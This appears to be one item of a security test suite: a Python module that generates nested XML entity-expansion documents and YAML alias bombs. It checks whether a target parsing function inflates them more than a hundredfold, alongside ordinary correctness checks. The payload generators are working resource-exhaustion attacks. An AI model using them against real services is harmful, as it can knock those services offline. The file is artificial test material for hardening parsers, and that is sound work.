"""A document of a few kilobytes comes out more than a hundred times as long."""

KIND = "exploit"
REQUIRES = ("PyYAML",)
# Every result stays below 8 MiB, where Expat's own limit (a factor of 100) would begin to count.
PAYLOADS = (
    {"levels": 4, "width": 10, "text": "lol, lol, lol, lol"},
    {"levels": 1, "width": 600, "text_length": 3000},
)


def entities(levels, width, text):
    declared = [f'<!ENTITY e0 "{text}">']
    declared += [
        f'<!ENTITY e{level} "{f"&e{level - 1};" * width}">' for level in range(1, levels + 1)
    ]
    document = (
        f"<!DOCTYPE catalogue [{''.join(declared)}]><catalogue><name>&e{levels};</name></catalogue>"
    )
    return document.encode()


def aliases(levels, width, text):
    lines = [f"- &e0 {text}"]
    lines += [
        f"- &e{level} [{', '.join([f'*e{level - 1}'] * width)}]" for level in range(1, levels + 1)
    ]
    return "\n".join(lines)


def exploit(module, payload):
    shape = dict(payload)
    if "text_length" in shape:
        shape["text"] = "x" * shape.pop("text_length")
    if hasattr(module, "to_json"):
        convert, document = module.to_json, aliases(**shape)
    else:
        convert, document = module.catalogue_name, entities(**shape)
    try:
        result = convert(document)
    except ValueError:
        return False
    return len(result) > 100 * len(document)


def behaviour(module):
    if hasattr(module, "to_json"):
        assert module.to_json("name: Fruit\nkinds: [apple, pear]\nopen: true") == (
            '{"name": "Fruit", "kinds": ["apple", "pear"], "open": true}'
        )
    else:
        document = b"<catalogue><name>Fruit &amp; vegetables</name></catalogue>"
        assert module.catalogue_name(document) == "Fruit & vegetables"
        assert module.catalogue_name(b"<catalogue/>") == ""
